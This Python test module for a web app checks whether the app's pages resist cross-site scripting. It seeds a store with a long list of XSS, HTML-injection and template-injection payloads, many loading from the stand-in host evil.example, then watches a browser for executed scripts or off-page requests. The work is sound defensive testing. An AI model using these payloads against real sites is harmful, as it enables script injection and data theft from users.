"""Hostile words, a store whose every field is made of them, and an eye on what a browser does with its pages."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from itertools import product
from typing import Any
from urllib.parse import quote, urlsplit

from serving import fill

from sayso.serve.addresses import find_page
from sayso.store import Correction, Rating, Store
from sayso.types import Actor, Claim, Days, Event, Participant, Place, Reading, Source, Time, Toll, make_report

# `hit` is what a payload that runs would set; evil.example is what one that loads would ask.
SINGLE = (
    "<script>hit=1;alert(1)</script>", "<img src=x onerror=hit=1;alert(1)>", "<svg onload=hit=1;alert(1)>",
    "\"><script src=//evil.example/x.js></script>", "' onmouseover='hit=1' autofocus onfocus='hit=1;alert(1)' x='",
    '" onmouseover="hit=1" autofocus onfocus="hit=1;alert(1)" x="', "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src=javascript:parent.hit=1>", "<img src=http://evil.example/i.png>",
    "<link rel=stylesheet href=//evil.example/s>", "<link rel=prefetch href=//evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/s.css';*{background:url(//evil.example/b)}</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><button autofocus>go",
    "<object data=//evil.example/o></object>", "<embed src=//evil.example/e>", "<video src=//evil.example/v autoplay>",
    "<video poster=//evil.example/p></video>", "<audio src=x onerror=hit=1>", "<input autofocus onfocus=hit=1>",
    "<details open ontoggle=hit=1>", "<body onload=hit=1>", "<marquee onstart=hit=1>",
    "<body background=//evil.example/b>",
    "</title><script>hit=1</script>", "</textarea><script>hit=1</script>", "</style><script>hit=1</script>",
    "</script><script>hit=1</script>", "<!--><script>hit=1</script>-->", "<plaintext>",
    "<noframes><script>hit=1</script>",
    "<math><mtext></mtext><mglyph><style><img src onerror=hit=1></style>",
    "<noscript><p title='</noscript><img src onerror=hit=1>'>",
    "<table background=//evil.example/t><td>", "<isindex type=image src=1 onerror=hit=1>",
    "{{7*7}}{% raw %}<script>hit=1</script>", "{{ self.__init__.__globals__ }}", "${hit=1}#{hit=1}<%= hit %>",
    "]]><script>hit=1</script>", "<![CDATA[<script>hit=1</script>]]>", "<?xml version='1.0'?><script>hit=1</script>",
    "+ADw-script+AD4-hit=1+ADw-/script+AD4-", "\u2028\u202e<script>hit=1</script>", "\ufeff<script>hit=1</script>",
    "<scr\u0000ipt>hit=1</scr\u0000ipt>", "<script\u000chit=1>hit=1</script>",
    "\uff1cscript\uff1ehit=1\uff1c/script\uff1e",
    "<a href=javascript:hit=1>x</a>", "<a ping=//evil.example/ping href=/>x</a>", "javascript:hit=1//",
    "data:text/html,<script>hit=1</script>", "//evil.example/", "http://evil.example/\" onclick=hit=1",
    "<svg><use href='data:image/svg+xml,<svg onload=hit=1>'/></svg>", "<image href=//evil.example/i>",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>", "<svg><script href=//evil.example/x.js></script></svg>",
    "<svg><foreignObject><script>hit=1</script></foreignObject></svg>",
    "<svg><style>@import'//evil.example/s'</style></svg>",
    "&lt;script&gt;hit=1&lt;/script&gt;", "&#60;script&#62;hit=1&#60;/script&#62;", "&amp;lt;script>hit=1",
    "<template shadowrootmode=open><img src onerror=hit=1></template>",
    "<dialog open onclose=hit=1><form method=dialog>",
    "<select autofocus onfocus=hit=1>", "<textarea autofocus onfocus=hit=1>",
    "<x contenteditable autofocus onfocus=hit=1>",
    "<p style='background:url(//evil.example/c)'>", "<p style=animation-name:x onanimationstart=hit=1>",
    "<div popover id=p onbeforetoggle=hit=1>", "<source srcset=//evil.example/i><img srcset=//evil.example/i>",
    "<script type=module>import '//evil.example/m.js'</script>", "<script type=importmap>{}</script>",
    "<portal src=//evil.example/>", "<frameset onload=hit=1>", "<applet code=//evil.example/a>",
    "<bgsound src=//evil.example/b>",
)  # fmt: skip
# What closes the place that words stand in, and what would then begin.
CLOSING = ("'>", '">', "--></p></div>", "</blockquote></li></ul>", "`}};", "\\\"'/>\n\n", "</a></svg></figure>")
OPENING = (
    "<script>hit=1</script>", "<img src=//evil.example/i onerror=hit=1>", "<svg/onload=hit=1>",
    "<iframe/src=//evil.example/f>",
    "<link rel=stylesheet href=//evil.example/s>", " autofocus tabindex=1 onfocus=hit=1 style=x:url(//evil.example/u) ",
    "<object data=javascript:hit=1>", "<a href=//evil.example/a ping=//evil.example/p>x",
)  # fmt: skip
PAYLOADS = (*SINGLE, *(closed + opened for closed, opened in product(CLOSING, OPENING)))
MOST_PATIENCE = 300_000  # milliseconds: whether a page is harmless is no question of how busy the machine is
# What our own pages load besides themselves.
_OURS = re.compile(r"/(static/[\w.]+|plots/\w+\.(svg|json|js)|suggest|reports/[\w%.~-]+/lights\.css)")

# Touches all that waits to be touched. Gives back whether a payload ran, which links a browser would run, and how many
# of the payloads are to be read.
LOOK = """() => {
    for (const each of document.querySelectorAll('main *'))
        for (const kind of ['mouseover', 'focus', 'toggle']) each.dispatchEvent(new Event(kind));
    const ran = 'hit' in window;
    const runs = /^\\s*(javascript|data|vbscript|file|blob):/i;
    const links = [...document.querySelectorAll('[href]')].some(a => runs.test(a.getAttribute('href')));
    const told = new Set((document.title + document.body.innerText).match(/zz\\d+zz/g));
    return [ran, links, told.size];
}"""


def make_hostile(number: int, payloads: Sequence[tuple[int, str]]) -> Reading:
    """A report in which everything that can be words is a payload, each with its number to find it by: a sentence for
    each, and the first as title, outlet, address and id."""
    evils = [(n, f"{payload} zz{n}zz") for n, payload in payloads]
    text, atoms = "", []
    for n, evil in evils:
        at = len(text)
        sentence = f"{evil} said that {evil} hit {evil} at {evil}.\n\n"
        spans = [(at + start, at + start + len(evil)) for start in _starts(sentence, evil)]
        atoms.append((n, evil, spans))
        text += sentence
    first, url = evils[0][1], payloads[0][1]
    report = make_report(
        text, id=first, outlet=first, title=first, url=url, published="2022-03-04", language="en", path=first
    )
    return Reading(
        report,
        actors=tuple(actor for n, evil, spans in atoms for actor in (
            Actor(f"{n}-0", evil, True, "person", (spans[0],), evil, None, "AFG"),
            Actor(f"{n}-1", f"other {evil}", True, "state", (spans[1],), None, None, evil, f"x:{evil}"),
        )),
        times=tuple(Time(*spans[3], "DATE", evil, "2022-03-01", "2022-03-01") for _, evil, spans in atoms),
        places=tuple(Place(*spans[2], evil, (n * 7 % 700) / 10, n * 11 % 1500 / 10, "AFG", evil, None, "PPL")
                     for n, evil, spans in atoms),
        claims=tuple(
            Claim(f"c{n}{evil}", Source((spans[0],), "named", f"{n}-0"), ((spans[0][1] + 1, spans[0][1] + 5),),
                  (spans[1],), "direct")
            for n, evil, spans in atoms
        ),
        events=tuple(
            Event(name_event(n, evil), "ASSAULT", spans[1], mode=evil, place=at, time=at, claim=f"c{n}{evil}",
                  date=Days("2022-03-01", f"2022-03-{1 + n % 28:02d}"), killed=Toll(n % 9, n % 9, spans[1]),
                  actors=(Participant(f"{n}-0", spans[0]),), recipients=(Participant(f"{n}-1", spans[1]),))
            for at, (n, evil, spans) in enumerate(atoms)
        ),
        pipeline={"name": first},
    )  # fmt: skip


def name_event(number: int, evil: str) -> str:
    """The id of its event; a slash would lead to another address."""
    return f"e{number}{evil}".replace("/", "_")


def _starts(text: str, words: str) -> Iterator[int]:
    start = text.index(words)
    while start >= 0:
        yield start
        start = text.find(words, start + 1)


def fill_hostile(path: Any, size: int) -> Store:
    """A store of all payloads, `size` in a report, with corrections and ratings whose words they are too."""
    numbered = list(enumerate(PAYLOADS))
    parts = [numbered[start : start + size] for start in range(0, len(numbered), size)]
    store = fill(path, [make_hostile(number, part) for number, part in enumerate(parts)])
    for number, part in enumerate(parts):
        n, evil = part[0][0], f"{part[0][1]} zz{part[0][0]}zz"
        id, mode = name_event(n, evil), {"mode": evil}
        store.correct(Correction(0, "event", id, "change", mode, mode, evil, evil, ""))
        if number % 4 == 0:
            store.rate(Rating("source", store.sources(kind="named", limit=500)[n].key, "B", evil, evil, ""))
    return store


def list_many() -> list[str]:
    """Pages that hold many payloads at once."""
    return [
        "/", "/incidents?limit=500", "/incidents?limit=500&sort=oldest", "/incidents?view=map", "/events?limit=500",
        "/events?limit=500&type=ASSAULT&since=2022-01-01", "/events?view=map", "/events?view=timeline",
        "/claims?limit=500", "/claims?limit=500&factuality=certain&kind=named", "/reports?limit=500",
        "/actors?limit=500",
        "/actors?limit=500&type=person", "/sources?limit=500", "/sources?limit=500&kind=named", "/search?q=hit",
    ]  # fmt: skip


def list_single(store: Store, number: int) -> list[str]:
    """Pages of what is made of one payload, and pages that say what was asked for."""
    evil = f"{PAYLOADS[number]} zz{number}zz"
    event = next(each for each in store.events(limit=5000) if each.id == name_event(number, evil))
    first, second = event.actor_keys[0] or "", event.recipient_keys[0] or ""
    claim = store.claims(limit=5000)[0]
    return [
        find_page("actors", first), find_page("incidents", event.id), find_page("incidents", event.id, on="2022-03-04"),
        find_page("sources", next((c.source_key for c in store.claims(limit=5000) if c.id == f"c{number}{evil}"),
                                  claim.source_key) or "none"),
        find_page("reports", f"none {evil}"), f"/events?since={quote(evil)}", f"/events?outlet={quote(evil)}&actor=x",
        f"/search?q={quote(evil[:100])}&outlet={quote(evil)}", f"/sign-in?to={quote(evil)}",
        f"/relations?first={quote(first)}&second={quote(second)}",
    ]  # fmt: skip


class Watch:
    """What pages do that they must not: scripts that run, requests off the page, markup that the policy stopped."""

    def __init__(self, page: Any, address: str) -> None:
        self.page, self.address, self.wrong = page, address, []
        self.seen = 0
        page.set_default_timeout(MOST_PATIENCE)
        page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", self.see)
        page.on("console", lambda message: self.hear(message.text))
        page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))

    def see(self, request: Any) -> None:
        url: str = request.url
        at_top = request.is_navigation_request() and request.frame == self.page.main_frame
        if url.startswith(self.address) and (at_top or _OURS.fullmatch(urlsplit(url).path)):
            return
        self.wrong.append(f"request {url}")

    def hear(self, text: str) -> None:
        if "Content Security Policy" in text or "Refused" in text:
            self.wrong.append(text)

    def visit(self, path: str) -> int:
        """Go there and touch everything; gives back how many payloads are to be read there."""
        self.page.goto(self.address + path, wait_until="load")
        ran, runs, told = self.page.evaluate(LOOK)
        if ran:
            self.wrong.append(f"ran on {path}")
        if runs:
            self.wrong.append(f"a link on {path} that is no web address")
        self.seen += int(told)
        return int(told)


@contextmanager
def sink() -> Iterator[tuple[int, list[str]]]:
    """A port to which a browser's evil.example leads, and who connected to it."""
    connected: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.1)
        ended = threading.Event()

        def accept() -> None:
            while not ended.is_set():
                try:
                    connection, where = listening.accept()
                except TimeoutError:
                    continue
                connected.append(str(where))
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield listening.getsockname()[1], connected
        ended.set()
        thread.join()


def browser_options(port: int) -> list[str]:
    """How to start a Chromium whose names of other hosts lead to a sink."""
    return ["--no-sandbox", f"--host-resolver-rules=MAP *.example 127.0.0.1:{port}"]
